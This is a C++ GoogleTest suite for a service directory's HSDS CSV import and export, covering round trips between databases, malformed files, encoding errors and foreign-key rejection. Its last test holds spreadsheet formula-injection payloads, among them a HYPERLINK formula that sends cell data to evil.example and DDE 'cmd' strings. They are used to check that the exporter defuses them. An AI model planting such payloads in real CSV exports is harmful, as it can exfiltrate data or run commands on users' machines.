#include "directory/hsds_csv.hpp"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>

#include "app/application.hpp"
#include "common/ids.hpp"
#include "db/testing/test_database.hpp"
#include "directory/hsds_csv_io.hpp"
#include "directory/hsds_export.hpp"
#include "directory/hsds_files.hpp"

namespace filet::directory {
namespace {

namespace json = boost::json;
namespace fs = std::filesystem;
using HsdsCsvTest = testing::EngineTest;

// A folder of its own for each test, removed after.
struct TempDir {
  fs::path path = fs::temp_directory_path() / ("filet-csv-" + ids::new_uuid());
  TempDir() { fs::create_directories(path); }
  ~TempDir() { fs::remove_all(path); }
  void write(const std::string& name, const std::string& text) const {
    std::ofstream(path / name, std::ios::binary) << text;
  }
};

// A second fresh database of the same engine, for imports that must start from nothing.
struct SecondDatabase {
  std::unique_ptr<db::Pool> pool;
  std::string cleanup;
  bool sqlite;
  explicit SecondDatabase(db::Engine engine) : sqlite(engine == db::Engine::sqlite) {
    std::string suffix = ids::new_uuid().substr(0, 8), url;
    if (sqlite) {
      cleanup = (fs::temp_directory_path() / ("filet-test-csv-" + suffix + ".db")).string();
      url = "sqlite:" + cleanup;
    } else {
      std::string server = std::getenv("FILET_TEST_PG");
      cleanup = "t_csv_" + suffix;
      auto admin = db::connect(server);
      if (!admin || !(*admin)->execute_script("CREATE SCHEMA " + cleanup)) return;
      url = server + (server.find('?') == std::string::npos ? "?" : "&") + "options=-csearch_path%3D" + cleanup;
    }
    auto opened = app::open_database(url, 2);
    if (opened) pool = std::move(*opened);
  }
  ~SecondDatabase() {
    if (pool) pool->close(std::chrono::seconds(1));
    pool.reset();
    if (sqlite) {
      for (const char* ext : {"", "-wal", "-shm"}) fs::remove(cleanup + ext);
    } else if (auto admin = db::connect(std::getenv("FILET_TEST_PG"))) {
      (void)(*admin)->execute_script("DROP SCHEMA " + cleanup + " CASCADE");
    }
  }
};

fs::path hsds_reference() {
  const char* configured = std::getenv("FILET_HSDS_DIR");
  if (configured && *configured) return configured;
  return fs::path(__FILE__).parent_path() / "../../../shared/hsds";
}

int64_t count(db::Pool& pool, const std::string& table) {
  auto c = pool.acquire();
  return (*c)->query("SELECT COUNT(*) FROM " + table)->front().integer(0);
}

TEST_P(HsdsCsvTest, ImportsTheOfficialExamplePackageAndReportsItsDanglingRows) {
  fs::path folder = hsds_reference() / "v3.1/examples/csv";
  if (!fs::exists(folder / "services.csv")) GTEST_SKIP() << "no HSDS reference data at " << folder;
  auto report = import_path(pool(), folder.string(), {});
  ASSERT_TRUE(report) << report.error().detail;
  EXPECT_EQ(report->imported, 1u);
  // The example's foreign keys point nowhere in places: those rows are reported, by file and line.
  ASSERT_FALSE(report->rejected.empty());
  for (const auto& r : report->rejected) {
    EXPECT_FALSE(r.source.empty());
    EXPECT_TRUE(r.reason.code == FieldCode::not_found || r.reason.code == FieldCode::required) << r.source;
  }
  auto rejected = [&](const std::string& source) {
    return std::any_of(report->rejected.begin(), report->rejected.end(), [&](auto& r) { return r.source == source; });
  };
  EXPECT_TRUE(rejected("attributes.csv:2"));        // link_id names no service, location or organization
  EXPECT_TRUE(rejected("service_capacity.csv:2"));  // service_id names another service
  EXPECT_TRUE(rejected("url.csv:2"));               // names no service and no organization
  auto c = pool().acquire();
  auto exported = json::parse(*export_services_json(**c, "en")).as_array();
  ASSERT_EQ(exported.size(), 1u);
  const auto& service = exported[0].as_object();
  EXPECT_EQ(service.at("name").as_string(), "Community Counselling");
  EXPECT_EQ(service.at("organization").as_object().at("name").as_string(), "Example Organization Inc.");
  EXPECT_EQ(service.at("minimum_age").as_int64(), 12);
  EXPECT_EQ(service.at("program").as_object().at("name").as_string(), "Community Mental Health Support");
  const auto& sal = service.at("service_at_locations").as_array().at(0).as_object();
  EXPECT_EQ(sal.at("location").as_object().at("name").as_string(), "MyCity Civic Center");
  EXPECT_EQ(sal.at("location").as_object().at("accessibility").as_array().size(), 1u);
  EXPECT_EQ(sal.at("schedules").as_array().size(), 1u);  // its service_at_location_id exists: the most specific
  // The phone names a contact, which names the service: phone under contact, language under phone.
  const auto& contact = service.at("contacts").as_array().at(0).as_object();
  const auto& phone = contact.at("phones").as_array().at(0).as_object();
  EXPECT_EQ(phone.at("number").as_string(), "\"+44 1234 234567\"");  // a quote doubled in the file
  EXPECT_EQ(phone.at("extension").as_int64(), 100);
  EXPECT_EQ(phone.at("languages").as_array().at(0).as_object().at("code").as_string(), "ur");
  EXPECT_EQ(service.at("cost_options").as_array().at(0).as_object().at("amount").as_int64(), 35);
  EXPECT_EQ(count(pool(), "organizations"), 1);
}

json::array two_services() {
  return json::parse(R"([
  {"id":"7b0e3c1a-0000-4000-8000-00000000000a","name":"Banque alimentaire","status":"active",
   "description":"Paniers, \"dépannage\"\net épicerie","email":"aide@moisson.test",
   "organization":{"id":"7b0e3c1a-0000-4000-8000-0000000000a1","name":"Moisson Test","description":"Organisme",
                   "email":"info@moisson.test"},
   "phones":[{"id":"7b0e3c1a-0000-4000-8000-0000000000b1","service_id":"7b0e3c1a-0000-4000-8000-00000000000a",
              "number":"514-555-0100","extension":12,"description":" Accueil, poste 12 "}],
   "schedules":[{"id":"7b0e3c1a-0000-4000-8000-0000000000c1","service_id":"7b0e3c1a-0000-4000-8000-00000000000a",
                 "freq":"WEEKLY","byday":"MO,TU","opens_at":"09:00","closes_at":"17:00"}],
   "languages":[{"id":"7b0e3c1a-0000-4000-8000-0000000000d1","service_id":"7b0e3c1a-0000-4000-8000-00000000000a",
                 "name":"espagnol","code":"es"}],
   "attributes":[{"taxonomy_term":{"id":"7b0e3c1a-0000-4000-8000-0000000000e1","code":"food.banks",
                  "taxonomy_id":"6f1c2a4e-3b8d-4c5e-9a7f-0d2e1b3c4a5f","name":"Food banks"}}],
   "service_at_locations":[{"id":"7b0e3c1a-0000-4000-8000-0000000000f1","description":"Point de service",
     "location":{"id":"7b0e3c1a-0000-4000-8000-0000000000f2","name":"Local principal","latitude":45.5017,
                 "longitude":-73.5673,
                 "addresses":[{"id":"7b0e3c1a-0000-4000-8000-0000000000f3",
                   "location_id":"7b0e3c1a-0000-4000-8000-0000000000f2","address_1":"1 rue Test, bureau 2",
                   "city":"Montréal","postal_code":"H1H 1A1","state_province":"QC","country":"CA",
                   "address_type":"physical"}]}}],
   "x_filet":{"translations":{"fr":{"name":"Banque alimentaire","description":"Paniers, \"dépannage\"\net épicerie"},
                              "en":{"name":"Food bank","description":"Grocery hampers"}},
              "is_free":true,"waiting_list":{"status":"waiting","delay_days":30,"as_of":"2026-01-15"},
              "verified_at":"2026-01-10T12:00:00.000Z","verified_by":"Marie Tremblay"}},
  {"id":"7b0e3c1a-0000-4000-8000-00000000000b","name":"Aide aux devoirs","status":"active","minimum_age":6,
   "maximum_age":12,"url":"https://devoirs.test",
   "organization":{"id":"7b0e3c1a-0000-4000-8000-0000000000a2","name":"Org Deux"},
   "contacts":[{"id":"7b0e3c1a-0000-4000-8000-0000000001a1","service_id":"7b0e3c1a-0000-4000-8000-00000000000b",
                "name":"Ann","phones":[{"id":"7b0e3c1a-0000-4000-8000-0000000001a2",
                "contact_id":"7b0e3c1a-0000-4000-8000-0000000001a1","number":"514-555-0199"}]}],
   "required_documents":[{"id":"7b0e3c1a-0000-4000-8000-0000000001b1",
                          "service_id":"7b0e3c1a-0000-4000-8000-00000000000b","document":"Bulletin"}],
   "cost_options":[{"id":"7b0e3c1a-0000-4000-8000-0000000001c1","service_id":"7b0e3c1a-0000-4000-8000-00000000000b",
                    "option":"Par mois","amount":5.5,"currency":"CAD"}],
   "service_areas":[{"id":"7b0e3c1a-0000-4000-8000-0000000001d1","service_id":"7b0e3c1a-0000-4000-8000-00000000000b",
                     "name":"Laval"}]}
  ])")
      .as_array();
}

TEST_P(HsdsCsvTest, CsvExportImportsIntoAFreshDatabaseWithoutLoss) {
  auto first = import_hsds(pool(), two_services(), {}, "test", "");
  ASSERT_TRUE(first) << first.error().detail;
  ASSERT_EQ(first->imported, 2u);
  TempDir dir;
  auto c = pool().acquire();
  auto exported = export_to_folder(**c, dir.path.string(), "fr");
  ASSERT_TRUE(exported) << exported.error().detail;
  EXPECT_EQ(*exported, 2u);
  ASSERT_TRUE(fs::exists(dir.path / "csv/services.csv"));
  ASSERT_TRUE(fs::exists(dir.path / "csv/datapackage.json"));

  SecondDatabase fresh(GetParam());
  ASSERT_TRUE(fresh.pool);
  auto report = import_path(*fresh.pool, (dir.path / "csv").string(), {});
  ASSERT_TRUE(report) << report.error().detail;
  for (const auto& r : report->rejected) ADD_FAILURE() << r.source << " " << r.reason.field << " " << r.reason.code;
  EXPECT_EQ(report->imported, 2u);

  auto c2 = fresh.pool->acquire();
  for (std::string lang : {"fr", "en"}) {
    auto before = json::parse(*export_services_json(**c, lang));
    auto after = json::parse(*export_services_json(**c2, lang));
    // Each database installs the need taxonomy under its own term ids and the import matches
    // terms by code: the ids of need terms (and of the attributes derived from them) differ.
    for (auto* doc : {&before, &after})
      for (auto& s : doc->as_array()) {
        s.as_object().erase("last_modified");
        for (auto& a : s.as_object().at("attributes").as_array()) {
          auto& attribute = a.as_object();
          attribute.erase("id");
          attribute.erase("taxonomy_term_id");
          attribute.at("taxonomy_term").as_object().erase("id");
          attribute.at("taxonomy_term").as_object().erase("parent_id");
        }
      }
    ASSERT_EQ(before.as_array().size(), 2u);
    for (size_t i = 0; i < 2; ++i)
      EXPECT_EQ(before.as_array()[i], after.as_array()[i])
          << lang << "\nbefore: " << json::serialize(before.as_array()[i])
          << "\nafter:  " << json::serialize(after.as_array()[i]);
  }
}

TEST_P(HsdsCsvTest, MalformedCsvNamesTheFileAndLineAndImportsNothing) {
  const std::string header =
      "id,organization_id,name,status\r\n"
      "7b0e3c1a-0000-4000-8000-00000000000a,7b0e3c1a-0000-4000-8000-0000000000a1,Bon,active\r\n";
  TempDir unterminated;
  unterminated.write("organizations.csv", "id,name\r\n7b0e3c1a-0000-4000-8000-0000000000a1,Org\r\n");
  unterminated.write("services.csv", header + "7b0e3c1a-0000-4000-8000-00000000000b,,\"Pas fermé,active\r\n");
  auto result = import_path(pool(), unterminated.path.string(), {});
  ASSERT_FALSE(result);
  ASSERT_EQ(result.error().fields.size(), 1u);
  EXPECT_EQ(result.error().fields[0].field, "services.csv:3");
  EXPECT_NE(result.error().detail.find("line 3"), std::string::npos) << result.error().detail;

  TempDir columns;
  columns.write("organizations.csv", "id,name\r\n7b0e3c1a-0000-4000-8000-0000000000a1,Org\r\n");
  columns.write("services.csv", header);
  columns.write("phones.csv",
                "id,service_id,number\n1,7b0e3c1a-0000-4000-8000-00000000000a,514-555-0100\n"
                "2,\"multi\nline\",514\n3,7b0e3c1a-0000-4000-8000-00000000000a\n");
  result = import_path(pool(), columns.path.string(), {});
  ASSERT_FALSE(result);
  EXPECT_EQ(result.error().fields.at(0).field, "phones.csv:5");  // the second row spans lines 3 and 4
  EXPECT_NE(result.error().detail.find("2 columns instead of 3"), std::string::npos) << result.error().detail;
  EXPECT_EQ(count(pool(), "services"), 0);
  EXPECT_EQ(count(pool(), "organizations"), 0);
}

TEST_P(HsdsCsvTest, RowsOfUnknownParentsAreReportedAndTheRestImported) {
  TempDir dir;
  dir.write("organizations.csv", "id,name\r\n7b0e3c1a-0000-4000-8000-0000000000a1,Org\r\n");
  dir.write("services.csv",
            "id,organization_id,name,status,minimum_age\r\n"
            "7b0e3c1a-0000-4000-8000-00000000000a,7b0e3c1a-0000-4000-8000-0000000000a1,Halte-garderie,active,\r\n");
  dir.write("phones.csv",
            "id,service_id,number,extension\r\n"
            "7b0e3c1a-0000-4000-8000-0000000000b1,7b0e3c1a-0000-4000-8000-00000000000a,514-555-0100,\r\n"
            "7b0e3c1a-0000-4000-8000-0000000000b2,7b0e3c1a-0000-4000-8000-00000000ffff,514-555-0101,\r\n");
  auto report = import_path(pool(), dir.path.string(), {});
  ASSERT_TRUE(report) << report.error().detail;
  EXPECT_EQ(report->imported, 1u);
  ASSERT_EQ(report->rejected.size(), 1u);
  const auto& r = report->rejected[0];
  EXPECT_EQ(r.source, "phones.csv:3");
  EXPECT_EQ(r.id, "7b0e3c1a-0000-4000-8000-0000000000b2");
  EXPECT_EQ(r.reason.field, "service_id");
  EXPECT_EQ(r.reason.code, FieldCode::not_found);
  EXPECT_EQ(report->to_json().at("rejected").as_array()[0].as_object().at("source").as_string(), "phones.csv:3");
  auto c = pool().acquire();
  auto exported = json::parse(*export_services_json(**c, "fr")).as_array();
  const auto& service = exported.at(0).as_object();
  EXPECT_FALSE(service.contains("minimum_age"));  // an empty cell is no value
  ASSERT_EQ(service.at("phones").as_array().size(), 1u);
  EXPECT_EQ(service.at("phones").as_array()[0].as_object().at("number").as_string(), "514-555-0100");

  // --strict: one misplaced row and nothing is imported.
  TempDir again;
  for (const char* name : {"organizations.csv", "services.csv", "phones.csv"})
    fs::copy_file(dir.path / name, again.path / name);
  SecondDatabase fresh(GetParam());
  ASSERT_TRUE(fresh.pool);
  auto strict = import_path(*fresh.pool, again.path.string(), {.strict = true});
  ASSERT_TRUE(strict);
  EXPECT_EQ(strict->imported, 0u);
  EXPECT_EQ(count(*fresh.pool, "services"), 0);
}

// Found by fuzz/hsds_csv_package: a cell in Latin-1 (a spreadsheet saved in the wrong encoding)
// was imported as is, and the export then wrote invalid JSON. Now its row is rejected, naming the
// file, the line and the column; the other rows are imported and the export stays valid.
TEST_P(HsdsCsvTest, ACellNotInUtf8RejectsItsRowNamingFileLineAndColumn) {
  TempDir dir;
  dir.write("organizations.csv", "id,name\r\n7b0e3c1a-0000-4000-8000-0000000000a1,Org\r\n");
  dir.write("services.csv",
            "id,organization_id,name,status\r\n"
            "7b0e3c1a-0000-4000-8000-00000000000a,7b0e3c1a-0000-4000-8000-0000000000a1,Caf\xc3\xa9,active\r\n"
            "7b0e3c1a-0000-4000-8000-00000000000b,7b0e3c1a-0000-4000-8000-0000000000a1,Caf\xe9,active\r\n");
  dir.write("phones.csv",
            "id,service_id,number\r\n"
            "7b0e3c1a-0000-4000-8000-0000000000b1,7b0e3c1a-0000-4000-8000-00000000000a,514\xff\r\n");
  auto report = import_path(pool(), dir.path.string(), {});
  ASSERT_TRUE(report) << report.error().detail;
  EXPECT_EQ(report->imported, 1u);
  ASSERT_EQ(report->rejected.size(), 2u);
  std::map<std::string, std::string> rejected;
  for (const auto& r : report->rejected) {
    EXPECT_EQ(r.reason.code, FieldCode::invalid_format);
    EXPECT_EQ(r.reason.param, "UTF-8");
    rejected[r.source] = r.reason.field;
  }
  EXPECT_EQ(rejected["services.csv:3"], "name");
  EXPECT_EQ(rejected["phones.csv:2"], "number");
  auto c = pool().acquire();
  auto exported = export_services_json(**c, "fr");
  ASSERT_TRUE(exported);
  boost::system::error_code ec;
  auto parsed = json::parse(*exported, ec);
  ASSERT_FALSE(ec) << ec.message();
  ASSERT_EQ(parsed.as_array().size(), 1u);
  EXPECT_EQ(parsed.as_array()[0].as_object().at("name").as_string(), "Caf\xc3\xa9");
  EXPECT_FALSE(parsed.as_array()[0].as_object().contains("phones") &&
               !parsed.as_array()[0].as_object().at("phones").as_array().empty());
}

// Issue 6, item 3: names a manager can type that a spreadsheet would run as formulas.
TEST_P(HsdsCsvTest, FormulaNamesAreDefusedInTheCsvAndComeBackAsTyped) {
  const std::vector<std::string> names = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                                          "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"};
  json::array services;
  for (size_t i = 0; i < names.size(); ++i) {
    std::string id = "7b0e3c1a-0000-4000-8000-00000000010" + std::to_string(i);
    services.push_back(json::object{
        {"id", id},
        {"name", names[i]},
        {"organization",
         json::object{{"id", "7b0e3c1a-0000-4000-8000-0000000002a" + std::to_string(i)}, {"name", names[i]}}},
        {"x_filet", json::object{{"translations", json::object{{"fr", json::object{{"name", names[i]}}},
                                                               {"en", json::object{{"name", names[i]}}}}}}}});
  }
  auto first = import_hsds(pool(), services, {}, "test", "");
  ASSERT_TRUE(first) << first.error().detail;
  ASSERT_EQ(first->imported, 4u);
  TempDir dir;
  auto c = pool().acquire();
  ASSERT_TRUE(export_to_folder(**c, dir.path.string(), "fr"));
  for (const char* file : {"services.csv", "x_filet_translations.csv", "organizations.csv"}) {
    auto read = csv::read_file(dir.path / "csv" / file);
    ASSERT_TRUE(read) << file;
    size_t defused = 0;
    for (const auto& record : read->records)
      for (const auto& cell : record.cells) {
        if (!cell || cell->empty()) continue;
        EXPECT_EQ(std::string("=+-@\t\r").find(cell->front()), std::string::npos) << file << ": " << *cell;
        if (std::find(names.begin(), names.end(), cell->substr(1)) != names.end()) ++defused;
      }
    EXPECT_GE(defused, std::string(file) == "x_filet_translations.csv" ? 8u : 4u) << file;
  }
  SecondDatabase fresh(GetParam());
  ASSERT_TRUE(fresh.pool);
  auto report = import_path(*fresh.pool, (dir.path / "csv").string(), {});
  ASSERT_TRUE(report) << report.error().detail;
  EXPECT_EQ(report->imported, 4u);
  auto c2 = fresh.pool->acquire();
  for (const char* lang : {"fr", "en"}) {
    auto after = json::parse(*export_services_json(**c2, lang)).as_array();
    ASSERT_EQ(after.size(), 4u);
    for (const auto& s : after) {
      const auto& o = s.as_object();
      EXPECT_NE(std::find(names.begin(), names.end(), std::string(o.at("name").as_string())), names.end());
      EXPECT_EQ(o.at("name"), o.at("organization").as_object().at("name"));
    }
  }
}

FILET_ON_BOTH_ENGINES(HsdsCsvTest);

}  // namespace
}  // namespace filet::directory
